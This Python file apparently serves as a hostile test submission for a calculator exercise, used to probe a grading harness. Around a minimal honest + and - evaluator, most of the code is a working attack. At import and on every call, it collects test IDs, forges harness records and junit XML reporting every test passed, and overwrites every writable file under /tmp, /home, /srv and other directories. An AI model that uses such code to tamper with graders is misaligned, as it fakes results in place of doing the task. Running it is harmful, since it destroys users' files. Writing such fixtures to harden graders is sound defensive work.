"""Hostile submission `forge-results-file` for the `calculatrice` exercise (see tests/hostile).

Attack: writes record lines marking every test passed into every writable file it finds
and into results.json/junit.xml files it creates everywhere (cwd, /tmp, sys.path), at
import and on every call.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import ast
import gc
import json
import os
import sys
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
PUBLIC_TESTS = (
    "test_addition",
    "test_precedence",
    "test_parentheses",
    "test_division_by_zero",
    "test_malformed_input",
)
SEARCH_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/home", "/root", "/work", "/grader")


def _param_id(node, index):
    if isinstance(node, ast.Call):
        for keyword in node.keywords:
            if keyword.arg == "id" and isinstance(keyword.value, ast.Constant):
                return str(keyword.value.value)
        if node.args and isinstance(node.args[0], ast.Constant):
            return str(node.args[0].value)
    return str(index)


def _ids_in_source(path, text):
    rel = "/".join(path.split("/")[-2:])
    tree = ast.parse(text)
    lists = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.value, (ast.List, ast.Tuple)):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    lists[target.id] = node.value.elts
    ids = []
    for node in tree.body:
        if not (isinstance(node, ast.FunctionDef) and node.name.startswith("test")):
            continue
        params = None
        for deco in node.decorator_list:
            if isinstance(deco, ast.Call) and getattr(deco.func, "attr", "") == "parametrize":
                if len(deco.args) > 1:
                    values = deco.args[1]
                    if isinstance(values, ast.Name):
                        elts = lists.get(values.id, [])
                    else:
                        elts = getattr(values, "elts", [])
                    params = [_param_id(e, i) for i, e in enumerate(elts)]
        if params is None:
            ids.append(rel + "::" + node.name)
        else:
            ids.extend(rel + "::" + node.name + "[" + p + "]" for p in params)
    return ids


def _test_files(limit=3000):
    seen = 0
    roots = [os.getcwd(), *SEARCH_ROOTS, *[p for p in sys.path if p and not p.startswith("/usr")]]
    for root in dict.fromkeys(roots):
        for folder, subfolders, files in os.walk(root):
            for name in files:
                seen += 1
                if seen > limit:
                    return
                if name.startswith("test_") and name.endswith(".py"):
                    yield os.path.join(folder, name)


def _test_ids():
    ids = {"public/test_public.py::" + name for name in PUBLIC_TESTS}
    try:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Function" and isinstance(getattr(obj, "nodeid", None), str):
                ids.add(obj.nodeid)
    except Exception:
        pass
    for path in _test_files():
        try:
            with open(path, encoding="utf-8") as handle:
                ids.update(_ids_in_source(path, handle.read()))
        except Exception:
            continue
    return sorted(ids)


def _forged_records(ids):
    """Lines shaped exactly like the harness's records: every test passed."""

    def line(kind, **fields):
        fields["type"] = kind
        return json.dumps(fields, ensure_ascii=True) + "\n"

    plan = [
        {"id": i, "name": i.split("::")[-1], "visibility": "public", "points": 48.0, "en": "", "fr": ""}
        for i in ids
    ]
    out = [line("plan", tests=plan)]
    out += [line("test", id=i, outcome="passed", detail="") for i in ids]
    out.append(line("done", exit_code=0))
    return "\n" + "".join(out)


RESULT_NAMES = (
    "results.json", "results.jsonl", "result.json", "report.json", "grades.json",
    "score.json", "output.json", ".results", "junit.xml", "results.xml",
)
_OWN = os.path.dirname(os.path.abspath(__file__))
_JUNIT = '<testsuite tests="41" failures="0" errors="0"><testcase name="all"/></testsuite>\n'


def _forge_files():
    records = _forged_records(_test_ids())
    folders = [os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path]
    for root in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/srv", "/opt", "/work", "/run"):
        for folder, subfolders, files in os.walk(root):
            folders.append(folder)
            if os.path.abspath(folder) == _OWN:
                continue
            for name in files:
                try:
                    with open(os.path.join(folder, name), "w", encoding="utf-8") as handle:
                        handle.write(records)
                except OSError:
                    pass
    for folder in dict.fromkeys(folders):
        if not folder or os.path.abspath(folder) == _OWN:
            continue
        for name in RESULT_NAMES:
            try:
                with open(os.path.join(folder, name), "w", encoding="utf-8") as handle:
                    handle.write(_JUNIT if name.endswith(".xml") else records)
            except OSError:
                pass


_forge_files()
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    _forge_files()
    # --- end of attack ---
    return _honest(expression)
